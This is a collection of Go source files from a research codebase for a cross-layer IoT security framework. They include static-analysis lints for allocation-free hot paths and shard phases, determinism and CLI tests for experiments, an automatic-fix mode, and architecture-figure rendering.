		if fn.Pkg != pkg || fn.File.Test || phase == "" || phase == BarrierPhase {
			continue
		}
		if allowed[fn.File] == nil {
			allowed[fn.File] = allowedLines(pkg.Fset, fn.File.AST, AllowShardSafeMarker)
		}
		waived := allowed[fn.File]
		reported := make(map[token.Pos]bool)
		for _, e := range fn.Edges {
			if !followShardSafe(e) || reported[e.Pos] || waived[pkg.Fset.Position(e.Pos).Line] {
				continue
			}
			if target := a.core.phase[e.Callee]; target != "" {
				if target != phase {
					reported[e.Pos] = true
					out = append(out, pkg.finding(a.Name(), e.Pos,
						"phase(%s) function %s calls phase(%s) %s; cross-phase access is only legal from barrier-phase (%s) code (or annotate //%s)",
						phase, fn.Decl.Name.Name, target, FuncDisplay(e.Callee), BarrierPhase, AllowShardSafeMarker))
				}
				continue
			}
			for _, reach := range a.core.phaseReach[e.Callee] {
				target := a.core.phase[reach]
				if target == phase {
					continue
				}
				reported[e.Pos] = true
				out = append(out, pkg.finding(a.Name(), e.Pos,
					"phase(%s) function %s reaches phase(%s) %s (%s); cross-phase access is only legal from barrier-phase (%s) code (or annotate //%s)",
					phase, fn.Decl.Name.Name, target, FuncDisplay(reach), a.witness(e.Callee, reach), BarrierPhase, AllowShardSafeMarker))
				break
			}
		}
	}
	return out
}

// witness renders the chain from the boundary callee to the
// conflicting phase-annotated function.
func (a *ShardPhase) witness(from, target string) string {
	chain := a.core.graph.Chain(from, func(k string) bool { return k == target }, func(e CallEdge) bool {
		return followShardSafe(e) && (a.core.phase[e.Callee] == "" || e.Callee == target)
	})
	if chain == nil {
		return "via " + FuncDisplay(from)
	}
	return "via " + displayChain(chain)
}

var (
	_ ModuleAnalyzer = (*ShardEscape)(nil)
	_ Documented     = (*ShardEscape)(nil)
	_ ModuleAnalyzer = (*ShardHandle)(nil)
	_ Documented     = (*ShardHandle)(nil)
	_ ModuleAnalyzer = (*ShardPhase)(nil)
	_ Documented     = (*ShardPhase)(nil)
)
