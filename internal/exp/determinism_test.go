package exp

import (
	"testing"
	"time"
)

// envFor returns an environment whose clock is fake, so timed sections
// (Table III throughput, the E4 matching paths) report fixed durations and
// the rendered output carries no wall-clock noise.
func envFor(seed int64) *Env {
	return &Env{Seed: seed, Clock: StepClock(time.Millisecond)}
}

// TestExperimentsDeterministic is the reproduction contract made a
// regression test: the same seed and a fake clock must render each
// experiment byte-identically across runs.
func TestExperimentsDeterministic(t *testing.T) {
	experiments := []struct {
		name string
		run  func(env *Env) *Result
	}{
		{"T3", Table3Env},
		{"E3", E3AuthEnv},
		{"E4", E4DPIEnv},
		{"E5", E5BehaviorEnv},
		{"E6", E6LearningEnv},
	}
	for _, ex := range experiments {
		ex := ex
		t.Run(ex.name, func(t *testing.T) {
			a := ex.run(envFor(7)).String()
			b := ex.run(envFor(7)).String()
			if a != b {
				t.Errorf("%s is not deterministic:\n--- first run ---\n%s\n--- second run ---\n%s", ex.name, a, b)
			}
		})
	}
}

// TestFullReportDeterministic replays the entire report twice. The heavy
// experiments (T2, E9) make this the longest test in the package, so it
// yields to -short.
func TestFullReportDeterministic(t *testing.T) {
	if testing.Short() {
		t.Skip("full-report determinism sweep in -short mode")
	}
	a := Render(AllEnv(envFor(3)))
	b := Render(AllEnv(envFor(3)))
	if a != b {
		t.Fatal("full report differs between two runs with the same seed and a fake clock")
	}
}

// TestStepClock pins the fake clock's contract: fixed advance per reading.
func TestStepClock(t *testing.T) {
	c := StepClock(time.Second)
	if got := c(); got != time.Second {
		t.Fatalf("first reading = %v, want 1s", got)
	}
	if got := c(); got != 2*time.Second {
		t.Fatalf("second reading = %v, want 2s", got)
	}
	env := &Env{Seed: 1, Clock: StepClock(time.Second)}
	if el := env.timeSection(func() {}); el != time.Second {
		t.Fatalf("timeSection elapsed = %v, want 1s", el)
	}
}
