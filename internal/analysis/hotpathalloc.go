package analysis

// The //xlf:hotpath annotation contract (DESIGN.md §10): a function whose
// doc comment carries the directive declares itself allocation-free, and
// this rule enforces the declaration with a conservative syntactic lint.
// The per-event and per-packet paths of the simulation kernel and the
// network core — and the disabled-tracer/counter paths under them — live
// or die on staying off the heap; an accidental closure or fmt call in
// one of them silently multiplies per-event cost by an order of
// magnitude. The static lint and the testing.AllocsPerRun guards in the
// annotated packages enforce the same bar from two directions.
//
// The lint is intraprocedural and flags constructs that usually allocate:
//
//   - composite literals whose address is taken, and slice/map literals;
//   - make, new and append;
//   - string concatenation and string<->[]byte/[]rune conversions;
//   - fmt.* calls (interface boxing plus formatting state);
//   - function literals (closure capture) and go statements;
//   - ranging over a map (no allocation, but nondeterministic order —
//     poison for the determinism contract the hot paths also carry).
//
// Plain value struct literals, calls into other functions and numeric
// conversions are deliberately not flagged: the first two are
// stack-allocatable or the callee's problem, and the guards catch what
// escape analysis disagrees about. A reviewed exception is waived line
// by line with //xlf:allow-hotpath.

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// HotPathMarker marks a function's doc comment as an allocation-free
// declaration enforced by the hotpathalloc rule.
const HotPathMarker = "xlf:hotpath"

// AllowHotPathMarker waives a hotpathalloc finding on its line (or the
// whole function when placed in the doc comment) for reviewed,
// deliberately-bounded allocations.
const AllowHotPathMarker = "xlf:allow-hotpath"

// HotPathAlloc enforces the //xlf:hotpath contract. With a call graph
// it is transitive: callees of an annotated function must themselves
// be alloc-free to any depth, reported at the hot function's call site
// with a witness chain. Callees that carry their own //xlf:hotpath
// annotation are skipped — their own gate covers them.
type HotPathAlloc struct {
	graph    *CallGraph
	oracle   *typeOracle
	prepared bool
	// facts maps funcKey → at most one allocation description the
	// function (transitively) performs; nil when built without a graph.
	facts map[string][]string
	// direct marks the fact-bearing functions for chain witnesses.
	direct map[string][]string
	// hot marks //xlf:hotpath-annotated functions.
	hot map[string]bool
}

// NewHotPathAlloc builds the analyzer on a shared call graph; nil
// keeps the rule intraprocedural (annotated frames only).
func NewHotPathAlloc(g *CallGraph) *HotPathAlloc {
	h := &HotPathAlloc{graph: g, oracle: newTypeOracle()}
	if g != nil {
		h.oracle = g.oracle
	}
	return h
}

// Name implements Analyzer.
func (h *HotPathAlloc) Name() string { return "hotpathalloc" }

// Doc implements Documented.
func (h *HotPathAlloc) Doc() string {
	return "functions annotated //xlf:hotpath must not contain or call into allocating constructs"
}

// followHotPath follows plain and deferred calls: both run in the hot
// frame. Spawned goroutines and closure bodies are excluded — their
// *creation* is already flagged in the frame that creates them — and
// so are fallback-resolved edges and bare references.
func followHotPath(e CallEdge) bool {
	return !e.Fallback && (e.Kind == EdgeCall || e.Kind == EdgeDefer)
}

// Prepare implements ModuleAnalyzer: the shared tolerant type-check
// powers the conversion and map-range classifications; with a graph,
// per-function allocation facts are collected and made transitive.
func (h *HotPathAlloc) Prepare(pkgs []*Package) {
	if h.prepared {
		return
	}
	h.prepared = true
	if h.graph == nil {
		h.oracle.check(pkgs)
		return
	}
	h.graph.Build(pkgs)

	h.direct = make(map[string][]string)
	h.hot = make(map[string]bool)
	allowed := make(map[*File]map[int]bool)
	for _, key := range h.graph.Keys() {
		fn := h.graph.Func(key)
		if fn.File.Test {
			continue
		}
		if isHotPath(fn.Decl) {
			h.hot[key] = true
		}
		if allowed[fn.File] == nil {
			allowed[fn.File] = allowedLinesExceptDoc(fn.Pkg.Fset, fn.File.AST, AllowHotPathMarker)
		}
		key := key
		w := &hotWalker{
			pkg: fn.Pkg, pt: h.oracle.typesOf(fn.Pkg), imports: importMap(fn.File.AST),
			fn: fn.Decl.Name.Name, allowed: allowed[fn.File],
			emit: func(pos token.Pos, desc string) {
				h.direct[key] = append(h.direct[key], desc+" in "+FuncDisplay(key))
			},
		}
		w.walk(fn.Decl.Body)
	}
	for key, facts := range h.direct {
		h.direct[key] = dedupSorted(facts)
	}
	h.facts = h.graph.Fixpoint(h.direct, followHotPath, 1)
}

// isHotPath reports whether the declaration's doc comment carries the
// directive. The raw comment list is scanned because //xlf:hotpath is a
// directive comment, which (*CommentGroup).Text() strips. Only the
// directive form — the comment starting with the marker, no space —
// counts, so prose that merely mentions the marker does not annotate.
func isHotPath(fd *ast.FuncDecl) bool {
	if fd.Doc == nil {
		return false
	}
	for _, c := range fd.Doc.List {
		if strings.HasPrefix(c.Text, "//"+HotPathMarker) {
			return true
		}
	}
	return false
}

// Check implements Analyzer.
func (h *HotPathAlloc) Check(pkg *Package) []Finding {
	if !h.prepared {
		h.Prepare([]*Package{pkg})
	}
	pt := h.oracle.typesOf(pkg)
	var out []Finding
	for fi := range pkg.Files {
		file := &pkg.Files[fi]
		if file.Test {
			continue
		}
		allowed := allowedLinesExceptDoc(pkg.Fset, file.AST, AllowHotPathMarker)
		for _, decl := range file.AST.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil || !isHotPath(fd) {
				continue
			}
			w := &hotWalker{pkg: pkg, pt: pt, imports: importMap(file.AST), fn: fd.Name.Name, allowed: allowed}
			w.walk(fd.Body)
			out = append(out, w.out...)
			out = append(out, h.transitive(pkg, fd, allowed)...)
		}
	}
	return out
}

// transitive reports calls out of a hot function into callees that
// (transitively) allocate, using the graph summaries from Prepare.
func (h *HotPathAlloc) transitive(pkg *Package, fd *ast.FuncDecl, allowed map[int]bool) []Finding {
	if h.graph == nil {
		return nil
	}
	recv := ""
	if fd.Recv != nil && len(fd.Recv.List) > 0 {
		recv = recvTypeName(fd.Recv.List[0].Type)
	}
	fn := h.graph.Func(funcKey(pkg.ImportPath, recv, fd.Name.Name))
	if fn == nil || fn.Decl != fd {
		return nil
	}
	var out []Finding
	reported := make(map[token.Pos]bool)
	for _, e := range fn.Edges {
		if !followHotPath(e) || h.hot[e.Callee] || reported[e.Pos] {
			continue
		}
		facts := h.facts[e.Callee]
		if len(facts) == 0 || allowed[pkg.Fset.Position(e.Pos).Line] {
			continue
		}
		reported[e.Pos] = true
		chain := h.graph.Chain(e.Callee, func(k string) bool { return len(h.direct[k]) > 0 }, followHotPath)
		witness := FuncDisplay(e.Callee)
		if chain != nil {
			witness = displayChain(chain)
		}
		out = append(out, pkg.finding("hotpathalloc", e.Pos,
			"hot path %s: call into %s allocates (%s; via %s); hoist it out of the hot path or waive with //%s",
			fd.Name.Name, FuncDisplay(e.Callee), facts[0], witness, AllowHotPathMarker))
	}
	return out
}

// allowedLinesExceptDoc is allowedLines without the doc-comment
// whole-function grant: //xlf:allow-hotpath in a doc comment must not
// waive the body wholesale (that would silently negate //xlf:hotpath in
// the same comment group); the annotation is surgical, per line.
func allowedLinesExceptDoc(fset *token.FileSet, f *ast.File, marker string) map[int]bool {
	docs := make(map[*ast.Comment]bool)
	for _, decl := range f.Decls {
		if fd, ok := decl.(*ast.FuncDecl); ok && fd.Doc != nil {
			for _, c := range fd.Doc.List {
				docs[c] = true
			}
		}
	}
	allowed := make(map[int]bool)
	for _, cg := range f.Comments {
		for _, c := range cg.List {
			if docs[c] || !strings.Contains(c.Text, marker) {
				continue
			}
			start := fset.Position(c.Pos()).Line
			end := fset.Position(c.End()).Line
			for l := start; l <= end+1; l++ {
				allowed[l] = true
			}
		}
	}
	return allowed
}

// hotWalker lints one annotated function body (or, with emit set,
// collects allocation facts for the transitive summaries).
type hotWalker struct {
	pkg     *Package
	pt      *pkgTypes
	imports map[string]string
	fn      string
	allowed map[int]bool
	emit    func(pos token.Pos, desc string)
	out     []Finding
}

func (w *hotWalker) report(pos token.Pos, desc string) {
	if w.allowed[w.pkg.Fset.Position(pos).Line] {
		return
	}
	if w.emit != nil {
		w.emit(pos, desc)
		return
	}
	w.out = append(w.out, w.pkg.finding("hotpathalloc", pos,
		"hot path %s: %s; hoist it out of the hot path or waive with //%s",
		w.fn, desc, AllowHotPathMarker))
}

// walk lints the body without descending into function literals: a
// literal's *creation* is the hot-path cost; its body runs elsewhere.
func (w *hotWalker) walk(body *ast.BlockStmt) {
	ast.Inspect(body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.FuncLit:
			w.report(n.Pos(), "function literal allocates a closure")
			return false
		case *ast.GoStmt:
			w.report(n.Pos(), "go statement allocates a goroutine stack")
		case *ast.UnaryExpr:
			if n.Op == token.AND {
				if _, isLit := n.X.(*ast.CompositeLit); isLit {
					w.report(n.Pos(), "taking the address of a composite literal heap-allocates it")
				}
			}
		case *ast.CompositeLit:
			switch t := n.Type.(type) {
			case *ast.ArrayType:
				if t.Len == nil {
					w.report(n.Pos(), "slice literal allocates its backing array")
				}
			case *ast.MapType:
				w.report(n.Pos(), "map literal allocates")
			}
		case *ast.BinaryExpr:
			if n.Op == token.ADD && w.isString(n) {
				w.report(n.Pos(), "string concatenation allocates")
			}
		case *ast.RangeStmt:
			if w.isMap(n.X) {
				w.report(n.Pos(), "map iteration order is nondeterministic on a hot path")
			}
		case *ast.CallExpr:
			w.call(n)
		}
		return true
	})
}

// call classifies one call expression: builtins, fmt, and allocating
// type conversions.
func (w *hotWalker) call(call *ast.CallExpr) {
	switch fun := call.Fun.(type) {
	case *ast.Ident:
		if w.isBuiltin(fun) {
			switch fun.Name {
			case "make", "new":
				w.report(call.Pos(), fun.Name+" allocates")
			case "append":
				w.report(call.Pos(), "append may grow its backing array")
			}
			return
		}
	case *ast.SelectorExpr:
		if id, ok := fun.X.(*ast.Ident); ok && !isLocalIdent(w.pt, id) {
			if w.imports[id.Name] == "fmt" {
				w.report(call.Pos(), "fmt."+fun.Sel.Name+" boxes its arguments and allocates")
				return
			}
		}
	}
	w.conversion(call)
}

// conversion flags string<->byte/rune-slice conversions, which copy.
// A conversion whose operand is already a string (string(addr[4:])) is
// free and stays quiet; without type info only the syntactic []T(x)
// form is flagged.
func (w *hotWalker) conversion(call *ast.CallExpr) {
	if len(call.Args) != 1 {
		return
	}
	if w.pt == nil {
		if _, isArray := call.Fun.(*ast.ArrayType); isArray {
			w.report(call.Pos(), "slice conversion copies its operand")
		}
		return
	}
	tv, ok := w.pt.info.Types[call.Fun]
	if !ok || !tv.IsType() {
		return
	}
	target := tv.Type.Underlying()
	opTV, ok := w.pt.info.Types[call.Args[0]]
	if !ok || opTV.Type == nil {
		return
	}
	operand := opTV.Type.Underlying()
	if isStringType(target) && !isStringType(operand) && !isUntypedConst(opTV) {
		w.report(call.Pos(), "conversion to string allocates a copy")
		return
	}
	if isByteOrRuneSlice(target) && isStringType(operand) {
		w.report(call.Pos(), "conversion from string to a byte/rune slice allocates a copy")
	}
}

func isStringType(t types.Type) bool {
	b, ok := t.(*types.Basic)
	return ok && b.Info()&types.IsString != 0
}

func isUntypedConst(tv types.TypeAndValue) bool { return tv.Value != nil }

func isByteOrRuneSlice(t types.Type) bool {
	s, ok := t.(*types.Slice)
	if !ok {
		return false
	}
	b, ok := s.Elem().Underlying().(*types.Basic)
	return ok && (b.Kind() == types.Byte || b.Kind() == types.Rune ||
		b.Kind() == types.Uint8 || b.Kind() == types.Int32)
}

// isString reports whether the expression's type is string-kinded (true
// when the oracle has no answer but either operand is a string literal).
func (w *hotWalker) isString(e *ast.BinaryExpr) bool {
	if w.pt != nil {
		if tv, ok := w.pt.info.Types[e]; ok && tv.Type != nil {
			return isStringType(tv.Type.Underlying())
		}
	}
	for _, op := range []ast.Expr{e.X, e.Y} {
		if lit, ok := op.(*ast.BasicLit); ok && lit.Kind == token.STRING {
			return true
		}
	}
	return false
}

// isMap reports whether e has map type (syntactically a map literal
// or via the oracle).
func (w *hotWalker) isMap(e ast.Expr) bool {
	if w.pt != nil {
		if tv, ok := w.pt.info.Types[e]; ok && tv.Type != nil {
			_, isMap := tv.Type.Underlying().(*types.Map)
			return isMap
		}
	}
	_, isMapType := e.(*ast.MapType)
	return isMapType
}

// isBuiltin reports whether the identifier denotes a Go builtin.
func (w *hotWalker) isBuiltin(id *ast.Ident) bool {
	if w.pt != nil {
		if obj := w.pt.info.Uses[id]; obj != nil {
			_, isBuiltin := obj.(*types.Builtin)
			return isBuiltin
		}
	}
	switch id.Name {
	case "make", "new", "append":
		return true
	}
	return false
}

var _ ModuleAnalyzer = (*HotPathAlloc)(nil)
