package main

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"xlf/internal/exp"
	"xlf/internal/obs"
)

func TestRunFlagValidation(t *testing.T) {
	cases := []struct {
		args []string
		want int
	}{
		{[]string{}, 2},                   // nothing selected
		{[]string{"-list"}, 0},            // listing
		{[]string{"-table", "9"}, 2},      // out of range
		{[]string{"-figure", "0"}, 2},     // not selected -> usage
		{[]string{"-figure", "9"}, 2},     // out of range
		{[]string{"-exp", "E99"}, 2},      // unknown experiment
		{[]string{"-exp", "E4,bogus"}, 2}, // unknown member of a comma list
		{[]string{"-exp", ""}, 2},         // empty selection
		{[]string{"-bogusflag"}, 2},       // parse error
		{[]string{"-figure", "2"}, 0},     // cheap figure renders
		{[]string{"-table", "3"}, 0},      // cipher table measures
		{[]string{"-exp", "E6", "-seed", "3"}, 0},
		{[]string{"-exp", "T3,F2,E4"}, 0},  // comma list across kinds
		{[]string{"-exp", " e4 , f2 "}, 0}, // whitespace and case tolerated
		{[]string{"-exp", "E4", "-clock", "sundial"}, 2},
		{[]string{"-exp", "E4", "-parallel", "0"}, 2},
		{[]string{"-exp", "E4,E5", "-parallel", "4", "-clock", "step"}, 0},
	}
	for _, tc := range cases {
		if got := run(tc.args); got != tc.want {
			t.Errorf("run(%v) = %d, want %d", tc.args, got, tc.want)
		}
	}
}

// TestRunWritesArtifacts drives the -json flag end to end and validates
// the written files against the schema via the exp loader.
func TestRunWritesArtifacts(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "bench")
	if got := run([]string{"-exp", "E4,T3", "-clock", "step", "-parallel", "2", "-seed", "7", "-json", dir}); got != 0 {
		t.Fatalf("run = %d, want 0", got)
	}
	byID, ids, err := exp.ReadArtifactDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(ids) != 2 {
		t.Fatalf("artifacts = %v, want E4 and T3", ids)
	}
	for _, id := range []string{"E4", "T3"} {
		a, ok := byID[id]
		if !ok {
			t.Fatalf("missing artifact %s", id)
		}
		if a.Seed != 7 || a.Parallel != 2 || a.Clock != exp.ClockStep {
			t.Errorf("%s metadata = %+v", id, a.RunMeta)
		}
		if a.Telemetry == nil || a.Telemetry.WallNS <= 0 {
			t.Errorf("%s telemetry = %+v", id, a.Telemetry)
		}
		if len(a.Numbers) == 0 {
			t.Errorf("%s has no headline numbers", id)
		}
	}
	// Artifacts from the same step-clock env are reproducible: a second
	// run must report the same output hashes.
	dir2 := filepath.Join(t.TempDir(), "bench2")
	if got := run([]string{"-exp", "E4,T3", "-clock", "step", "-seed", "7", "-json", dir2}); got != 0 {
		t.Fatalf("second run failed")
	}
	again, _, err := exp.ReadArtifactDir(dir2)
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range ids {
		if byID[id].OutputSHA256 != again[id].OutputSHA256 {
			t.Errorf("%s: step-clock hash not reproducible", id)
		}
	}
}

// TestRunJSONFailure covers the artifact-write error path (exit 1, not a
// usage error).
func TestRunJSONFailure(t *testing.T) {
	file := filepath.Join(t.TempDir(), "not-a-dir")
	if err := os.WriteFile(file, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	if got := run([]string{"-exp", "F2", "-json", file}); got != 1 {
		t.Errorf("run with unwritable -json dir = %d, want 1", got)
	}
}

// TestRunTraceByteIdentity drives -trace end to end: a step-clock E8 run
// must serialize the identical trace file across repeated runs and across
// -parallel levels, and the file must parse as xlf-trace/v1.
func TestRunTraceByteIdentity(t *testing.T) {
	dir := t.TempDir()
	paths := []string{
		filepath.Join(dir, "a.jsonl"),
		filepath.Join(dir, "b.jsonl"),
		filepath.Join(dir, "c.jsonl"),
	}
	for i, p := range paths {
		args := []string{"-exp", "E8", "-clock", "step", "-seed", "7", "-trace", p}
		if i == 2 {
			args = append(args, "-parallel", "4")
		}
		if got := run(args); got != 0 {
			t.Fatalf("run(%v) = %d, want 0", args, got)
		}
	}
	a, err := os.ReadFile(paths[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range paths[1:] {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(a, b) {
			t.Errorf("%s differs from %s: step-clock traces must be byte-identical", p, paths[0])
		}
	}
	meta, spans, err := obs.ReadTrace(bytes.NewReader(a))
	if err != nil {
		t.Fatal(err)
	}
	if meta.Seed != 7 || meta.Clock != exp.ClockStep || len(spans) == 0 {
		t.Errorf("trace meta = %+v with %d spans", meta, len(spans))
	}
}

// TestRunTraceFailure covers the trace-write error path (exit 1).
func TestRunTraceFailure(t *testing.T) {
	if got := run([]string{"-exp", "F2", "-trace", filepath.Join(t.TempDir(), "no", "such", "dir.jsonl")}); got != 1 {
		t.Errorf("run with unwritable -trace path = %d, want 1", got)
	}
}
