package main

// -fix mode: apply the mechanical edits analyzers attach to findings
// (Finding.Fix). Edits are byte-range replacements plus an optional
// required import; files are rewritten through go/format so the result
// is always gofmt-clean, and imports orphaned by an edit (bytes after a
// bytes.Equal -> hmac.Equal swap) are pruned when nothing else uses
// them. A fix that cannot be applied safely — overlapping ranges, an
// import already bound to a different local name — is skipped, leaving
// the finding reported but the file untouched by that edit.

import (
	"fmt"
	"go/ast"
	"go/format"
	"go/parser"
	"go/token"
	"io"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"

	"xlf/internal/analysis"
)

// applyFixes applies every applicable suggested fix, grouped per file.
// Finding paths are module-relative; root resolves them. Returns the
// number of edits applied.
func applyFixes(root string, findings []analysis.Finding, stderr io.Writer) (int, error) {
	byFile := make(map[string][]analysis.SuggestedFix)
	var files []string
	for _, f := range findings {
		if f.Fix == nil {
			continue
		}
		if _, seen := byFile[f.File]; !seen {
			files = append(files, f.File)
		}
		byFile[f.File] = append(byFile[f.File], *f.Fix)
	}
	sort.Strings(files)
	applied := 0
	for _, rel := range files {
		n, err := fixFile(filepath.Join(root, rel), byFile[rel])
		if err != nil {
			return applied, fmt.Errorf("%s: %w", rel, err)
		}
		if n > 0 {
			fmt.Fprintf(stderr, "xlf-vet: applied %d fix(es) to %s\n", n, rel)
		}
		applied += n
	}
	return applied, nil
}

// fixFile applies the applicable subset of fixes to one file and
// rewrites it. Returns how many edits were applied.
func fixFile(path string, fixes []analysis.SuggestedFix) (int, error) {
	src, err := os.ReadFile(path)
	if err != nil {
		return 0, err
	}
	imports, err := fileImports(path, src)
	if err != nil {
		return 0, err
	}

	// Keep the safe subset: in-bounds, non-overlapping (latest-start
	// first so splicing never shifts pending offsets), and with the
	// required import either absent or bound to its default name.
	sort.Slice(fixes, func(i, j int) bool { return fixes[i].Start > fixes[j].Start })
	out := append([]byte(nil), src...)
	needImports := map[string]bool{}
	applied, prevStart := 0, len(src)+1
	for _, fix := range fixes {
		if fix.Start < 0 || fix.End > len(src) || fix.Start > fix.End || fix.End > prevStart {
			continue
		}
		if fix.AddImport != "" {
			if local, ok := imports[fix.AddImport]; ok && local != defaultImportName(fix.AddImport) {
				continue // aliased; the replacement text would not resolve
			}
		}
		out = append(out[:fix.Start], append([]byte(fix.NewText), out[fix.End:]...)...)
		if fix.AddImport != "" {
			if _, ok := imports[fix.AddImport]; !ok {
				needImports[fix.AddImport] = true
			}
		}
		prevStart = fix.Start
		applied++
	}
	if applied == 0 {
		return 0, nil
	}
	for imp := range needImports {
		out, err = insertImport(out, imp)
		if err != nil {
			return 0, err
		}
	}
	out, err = pruneUnusedImports(path, out)
	if err != nil {
		return 0, err
	}
	formatted, err := format.Source(out)
	if err != nil {
		return 0, fmt.Errorf("fixed source does not format: %w", err)
	}
	return applied, os.WriteFile(path, formatted, 0o644)
}

// fileImports maps import path -> local name for one source file.
func fileImports(path string, src []byte) (map[string]string, error) {
	f, err := parser.ParseFile(token.NewFileSet(), path, src, parser.SkipObjectResolution)
	if err != nil {
		return nil, err
	}
	out := make(map[string]string, len(f.Imports))
	for _, imp := range f.Imports {
		p, err := strconv.Unquote(imp.Path.Value)
		if err != nil {
			continue
		}
		name := defaultImportName(p)
		if imp.Name != nil {
			name = imp.Name.Name
		}
		out[p] = name
	}
	return out, nil
}

func defaultImportName(path string) string {
	return path[strings.LastIndex(path, "/")+1:]
}

// insertImport adds `"path"` to the file's import block textually; the
// final format.Source pass re-sorts the block.
func insertImport(src []byte, path string) ([]byte, error) {
	text := string(src)
	if i := strings.Index(text, "import ("); i >= 0 {
		nl := strings.IndexByte(text[i:], '\n')
		if nl < 0 {
			return nil, fmt.Errorf("malformed import block")
		}
		at := i + nl + 1
		return []byte(text[:at] + "\t" + strconv.Quote(path) + "\n" + text[at:]), nil
	}
	if i := strings.Index(text, "\nimport "); i >= 0 {
		return []byte(text[:i+1] + "import " + strconv.Quote(path) + "\n" + text[i+1:]), nil
	}
	// No imports yet: add a declaration after the package clause line.
	i := strings.Index(text, "\npackage ")
	if i < 0 && strings.HasPrefix(text, "package ") {
		i = 0
	}
	if i < 0 {
		return nil, fmt.Errorf("no package clause")
	}
	nl := strings.IndexByte(text[i+1:], '\n')
	if nl < 0 {
		return nil, fmt.Errorf("no line after package clause")
	}
	at := i + 1 + nl + 1
	return []byte(text[:at] + "\nimport " + strconv.Quote(path) + "\n" + text[at:]), nil
}

// pruneUnusedImports removes plain (unaliased, non-blank, non-dot)
// imports whose local name no longer appears anywhere outside the
// import declaration — edits like bytes.Equal -> hmac.Equal orphan
// their old package. Removal is by line, then validated by the caller's
// format pass.
func pruneUnusedImports(path string, src []byte) ([]byte, error) {
	fset := token.NewFileSet()
	f, err := parser.ParseFile(fset, path, src, parser.SkipObjectResolution)
	if err != nil {
		return nil, fmt.Errorf("fixed source does not parse: %w", err)
	}
	used := make(map[string]bool)
	for _, decl := range f.Decls {
		if gd, ok := decl.(*ast.GenDecl); ok && gd.Tok == token.IMPORT {
			continue
		}
		ast.Inspect(decl, func(n ast.Node) bool {
			if id, ok := n.(*ast.Ident); ok {
				used[id.Name] = true
			}
			return true
		})
	}
	var deadLines []int
	for _, imp := range f.Imports {
		if imp.Name != nil {
			continue // aliased, blank and dot imports are kept as-is
		}
		p, err := strconv.Unquote(imp.Path.Value)
		if err != nil {
			continue
		}
		if !used[defaultImportName(p)] {
			deadLines = append(deadLines, fset.Position(imp.Pos()).Line)
		}
	}
	if len(deadLines) == 0 {
		return src, nil
	}
	dead := make(map[int]bool, len(deadLines))
	for _, l := range deadLines {
		dead[l] = true
	}
	lines := strings.SplitAfter(string(src), "\n")
	var out strings.Builder
	for i, line := range lines {
		if !dead[i+1] {
			out.WriteString(line)
		}
	}
	return []byte(out.String()), nil
}
