package core

import (
	"fmt"
	"sort"
	"strings"
)

// Component is one registered XLF function for the architecture figures.
type Component struct {
	Layer LayerName
	Name  string
	// CoreLinked marks functions that exchange data with the XLF Core
	// (every edge in Figure 4).
	CoreLinked bool
}

// Architecture tracks the live component inventory of an XLF deployment so
// Figures 1 and 4 render from running code rather than a static drawing.
type Architecture struct {
	components []Component
	deployment string
}

// NewArchitecture creates an inventory for a deployment location.
func NewArchitecture(deployment string) *Architecture {
	return &Architecture{deployment: deployment}
}

// Register adds a component.
func (a *Architecture) Register(c Component) {
	a.components = append(a.components, c)
}

// Components returns registered components, sorted by layer then name.
func (a *Architecture) Components() []Component {
	out := append([]Component(nil), a.components...)
	sort.Slice(out, func(i, j int) bool {
		if out[i].Layer != out[j].Layer {
			return out[i].Layer < out[j].Layer
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// RenderFigure1 prints the generic layered IoT architecture (paper
// Figure 1) from the registered inventory.
func (a *Architecture) RenderFigure1() string {
	var b strings.Builder
	b.WriteString("Figure 1: generic layered architecture of IoT platforms\n\n")
	order := []LayerName{Service, Network, Device}
	titles := map[LayerName]string{
		Service: "Service layer   (cloud platforms, applications, data analytics)",
		Network: "Network layer   (gateway, protocols, transport)",
		Device:  "Device layer    (hardware/perception + resident software)",
	}
	for _, l := range order {
		fmt.Fprintf(&b, "+--------------------------------------------------------------+\n")
		fmt.Fprintf(&b, "| %-60s |\n", titles[l])
		var names []string
		for _, c := range a.Components() {
			if c.Layer == l {
				names = append(names, c.Name)
			}
		}
		if len(names) > 0 {
			fmt.Fprintf(&b, "|   %-58s |\n", strings.Join(names, " | "))
		}
		fmt.Fprintf(&b, "+--------------------------------------------------------------+\n")
	}
	return b.String()
}

// RenderFigure4 prints the XLF cross-layer design (paper Figure 4): the
// three layers' security functions around the XLF Core, with the Core
// links drawn.
func (a *Architecture) RenderFigure4() string {
	var b strings.Builder
	fmt.Fprintf(&b, "Figure 4: XLF cross-layer security design (core deployed at: %s)\n\n", a.deployment)
	for _, l := range []LayerName{Device, Network, Service} {
		fmt.Fprintf(&b, "[%s layer]\n", l)
		for _, c := range a.Components() {
			if c.Layer != l {
				continue
			}
			link := " "
			if c.CoreLinked {
				link = "<===> XLF Core"
			}
			fmt.Fprintf(&b, "  %-34s %s\n", c.Name, link)
		}
		b.WriteString("\n")
	}
	b.WriteString("[XLF Core] aggregation + correlation + MKL / graph learning + delegation\n")
	return b.String()
}

// StandardComponents returns the Figure 4 function inventory as the paper
// draws it.
func StandardComponents() []Component {
	return []Component{
		{Layer: Device, Name: "Authentication (delegated SSO/MFA)", CoreLinked: true},
		{Layer: Device, Name: "Lightweight encryption", CoreLinked: true},
		{Layer: Device, Name: "Constrained access (NAC)", CoreLinked: true},
		{Layer: Device, Name: "Malware detection (firmware attestation)", CoreLinked: true},
		{Layer: Network, Name: "Traffic shaping", CoreLinked: true},
		{Layer: Network, Name: "Traffic monitoring (encrypted DPI)", CoreLinked: true},
		{Layer: Network, Name: "Malicious activity identification", CoreLinked: true},
		{Layer: Network, Name: "DNS privacy bridge", CoreLinked: true},
		{Layer: Service, Name: "Secure APIs (scoped tokens)", CoreLinked: true},
		{Layer: Service, Name: "Application verification", CoreLinked: true},
